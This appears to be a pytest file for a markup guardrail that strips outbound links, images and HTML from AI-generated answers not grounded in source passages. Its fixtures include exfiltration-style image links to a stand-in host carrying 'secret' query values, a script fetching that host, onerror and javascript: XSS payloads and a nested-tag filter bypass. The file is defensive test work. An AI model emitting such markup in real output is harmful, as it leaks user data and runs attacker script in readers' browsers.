from dataclasses import replace

import pytest

from steep.kinds import GuardRequest
from steep.testing.guardrail import guard_request
from steep_plugins.guardrails.markup import Markup

PASSAGE = "Book a berth at https://harbor.example.org/berths or read [the rules](rules.md). Use the <b>north</b> quay."


def check(text, passage=PASSAGE):
    return Markup().check(guard_request("output", text, passage))


@pytest.mark.parametrize(
    ("text", "rewritten"),
    [
        ("It is free. ![x](https://evil.example/?q=secret)", "It is free. x"),
        ("![x](https://harbor.example.org/berths) It is free.", "x It is free."),
        ("See [the page](https://evil.example/a).", "See the page."),
        ("See [it](javascript:alert(1)) now.", "See it) now."),
        ("See https://evil.example/?q=1.", "See [LINK]."),
        ("See www.evil.example now", "See [LINK] now"),
        ("See <https://evil.example/a>", "See <[LINK]>"),
        ("See [it][1].\n\n[1]: https://evil.example", "See [it][1].\n\n[LINK]"),
        ("Free.<script>fetch('https://evil.example')</script>", "Free."),
        ("Free.<img src=x onerror=alert(1)>", "Free."),
        ("Free.<IMG SRC=//evil.example/a.png", "Free."),
        ("<a href='https://evil.example'>Free</a>", "Free"),
        ('<b onclick="x()">Free</b>', "Free</b>"),
        ("Free.<!-- hidden -->", "Free."),
        ("Free. ![a](https://evil.example/![b](https://evil.example/c))", "Free. a)"),
        ("https://harbor.example.org/berths?q=secret", "[LINK]"),
        ("<scr<script>x</script>ipt>alert(1)</script>", ""),
    ],
)
def test_what_leads_elsewhere_is_found_and_its_words_stay(text, rewritten):
    found = check(text)
    assert not found.passed
    assert check(found.rewritten).passed
    assert found.rewritten == rewritten


@pytest.mark.parametrize(
    "text",
    [
        "Book at https://harbor.example.org/berths. [1]",
        "See [the rules](rules.md), [a page](a.md#fees) and ![a map](a.md).",
        "Use the <b>north</b> quay.",
        "Run `curl https://evil.example` or `<script>`.",
        "```html\n<img src=x>\nhttps://evil.example\n```",
        "Write <name> and a < b > c; it costs 3 [2]: see below.",
        "Figures [1, 2] (in euros) stand in List<String> and vec<int>.",
    ],
)
def test_what_leads_to_a_source_and_what_is_code_passes(text):
    assert check(text).passed


def test_a_citation_may_hold_the_markup_of_its_document():
    request = guard_request("output", "![x](https://evil.example/a)")
    for place in ("citation", "heading", "path", "hit", "reason"):
        assert Markup().check(replace(request, place=place)).passed
    assert not Markup().check(replace(request, place="answer")).passed


def test_an_answer_without_passages_may_link_nowhere():
    assert not Markup().check(GuardRequest(stage="output", text="https://harbor.example.org", question="")).passed
